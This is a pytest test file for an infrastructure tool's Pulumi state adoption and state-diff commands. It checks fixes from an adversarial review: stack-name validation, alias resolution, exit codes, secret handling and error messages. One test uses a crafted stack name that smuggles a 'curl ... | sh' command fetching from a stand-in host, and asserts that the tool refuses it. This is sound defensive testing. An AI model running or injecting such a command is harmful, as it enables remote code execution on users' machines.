"""What an adversarial review of `mlinfra adopt` and `diff --against-state` found, each
fixed: a state's stack name reaching the commands adopt prints, the state resource a
compiled one is, the exit when the provider would refuse the comparison, and what stays
with the old stack."""

from __future__ import annotations

import copy
import json
from pathlib import Path

from tests.golden import run_cli
from tests.test_adopt import STATES, load, new_repo, write_state

QUEUES = STATES / "reference-queues.json"


def renamed_stack(doc: dict, stack: str) -> dict:
    text = json.dumps(doc).replace("urn:pulumi:dev::", f"urn:pulumi:{stack}::")
    return json.loads(text)


def test_a_stack_name_that_is_no_pulumi_name_is_refused_before_anything_is_written(
        tmp_path):
    # the steps adopt prints hold the old stack's name: `pulumi stack rm --force NAME`
    root = new_repo(tmp_path)
    hostile = renamed_stack(load(QUEUES), "dev && curl -s x.example|sh #")
    rc, out, err = run_cli(root, "adopt", str(write_state(tmp_path, hostile)), "queues")
    assert (rc, out) == (2, "")
    assert "the stack name dev && curl -s x.example|sh # in its URNs is not a Pulumi " \
           "stack name (letters, digits, `_`, `.`, `-`)" in err
    assert not (root / "environments" / "queues.yaml").exists()


QUEUE_ENV = ("providers: {aws: {region: us-east-1}}\n"
             "queues:\n"
             "  jobs:\n"
             "    name: jobs-4\n"
             "    previous_names: ['urn:pulumi:e4::mlinfra::aws:sqs/queue:Queue::old-jobs']\n")


def sqs(name: str, physical: str) -> dict:
    url = f"https://sqs.us-east-1.amazonaws.com/123456789012/{physical}"
    inputs = {"name": physical, "region": "us-east-1"}
    return {"urn": f"urn:pulumi:e4::mlinfra::aws:sqs/queue:Queue::{name}", "custom": True,
            "type": "aws:sqs/queue:Queue", "id": url, "inputs": inputs,
            "outputs": {**inputs, "url": url}}


def test_a_resource_is_its_own_name_before_it_is_an_alias(tmp_path):
    # the state holds jobs and old-jobs; jobs also lists old-jobs' URN as an alias.
    # Pulumi checks a resource's own URN first: jobs stays, old-jobs is the deletion.
    root = new_repo(tmp_path)
    (root / "environments" / "e4.yaml").write_text(QUEUE_ENV)
    doc = copy.deepcopy(load(QUEUES))
    doc["deployment"]["resources"] = [doc["deployment"]["resources"][0],
                                      sqs("jobs", "jobs-4"), sqs("old-jobs", "old-jobs-4")]
    rc, out, _ = run_cli(root, "diff", "e4", "--against-state", str(write_state(tmp_path,
                                                                                 doc)))
    lines = out.splitlines()
    assert rc == 0  # (a development environment: shown, not refused)
    assert "  - old-jobs  aws:sqs/queue:Queue  DELETE" in lines
    # jobs is compared with jobs (its physical name agrees), not with old-jobs (whose
    # name would differ: "old-jobs-4" -> "jobs-4"); the arguments this small state
    # leaves out differ either way
    assert not any(line.strip().startswith("name:") for line in lines)
    assert "renamed from" not in out


def test_adopt_exits_3_when_the_provider_would_refuse_the_comparison(tmp_path, monkeypatch):
    # a comparison with nothing created, replaced or deleted but a change the provider
    # refuses (MLC603) is no clean hand-over
    from mlinfra_compile import statediff
    from mlinfra_compile.diff import ArgChange, Change, Diff

    real = statediff.compare

    def refused(cp, new, label):
        d = real(cp, new, label)
        return Diff(d.env, d.baseline, d.production, [Change(
            "ml-training-queue", "aws:sqs/queue:Queue", "update",
            [ArgChange("x", 1, 2, "refused", "the API refuses it")])], [])

    monkeypatch.setattr(statediff, "compare", refused)
    rc, _, _ = run_cli(new_repo(tmp_path), "adopt", str(QUEUES), "queues")
    assert rc == 3


def test_what_stays_with_the_old_stack_is_said_and_changes_the_steps(tmp_path):
    doc = copy.deepcopy(load(QUEUES))
    doc["deployment"]["resources"].append({
        "urn": "urn:pulumi:dev::ml-training-queues::my:component:Thing::parts",
        "custom": False, "type": "my:component:Thing"})
    rc, _, err = run_cli(new_repo(tmp_path), "adopt", str(write_state(tmp_path, doc)),
                         "queues")
    assert rc == 0, err
    assert ("mlinfra: stays with the old stack: my:component:Thing parts: a component, a "
            "read-only resource or a pending deletion: not moved; it stays with the old "
            "stack\n") in err
    assert "once it manages nothing but what is listed as staying with it" in err
    assert "(run no `pulumi up`" not in err


def test_without_anything_left_the_steps_say_to_leave_the_old_stack_alone(tmp_path):
    rc, _, err = run_cli(new_repo(tmp_path), "adopt", str(QUEUES), "queues")
    assert rc == 0
    assert "stays with the old stack" not in err
    assert "leaves its resources running, (run no `pulumi up` or `pulumi destroy` there " \
           "before)" in err


def test_a_stack_name_pulumi_takes_is_taken(tmp_path: Path):
    root = new_repo(tmp_path)
    ok = renamed_stack(load(QUEUES), "team.dev_2-b")
    assert run_cli(root, "adopt", str(write_state(tmp_path, ok)), "queues")[0] == 0


def test_a_secret_in_the_state_against_a_secret_config_value_is_no_change():
    # (review) an ElastiCache auth_token: the state holds "(secret)", the graph a secret
    # config value; neither can be read here, so they are not shown as a change
    from mlinfra_compile.state import SECRET
    from mlinfra_compile.statediff import _align

    marker = {"$secret": "cache-auth-token"}
    assert _align(SECRET, marker, lambda name, attr: None) == marker
    assert _align("plain", marker, lambda name, attr: None) == "plain"  # shown


def test_a_folder_given_as_the_state_is_named_in_the_error(tmp_path):
    # (read-through) a folder reached fdopen, whose error named file descriptor 3
    root = new_repo(tmp_path)
    (root / "environments" / "jobs.yaml").write_text(QUEUE_ENV)
    for args in (("adopt", str(tmp_path), "queues"),
                 ("diff", "jobs", "--against-state", str(tmp_path))):
        rc, _, err = run_cli(root, *args)
        assert rc == 2
        assert err == (f"mlinfra: error: {tmp_path}: not a regular file; write the export "
                       "to a file first (`pulumi stack export > state.json`)\n")
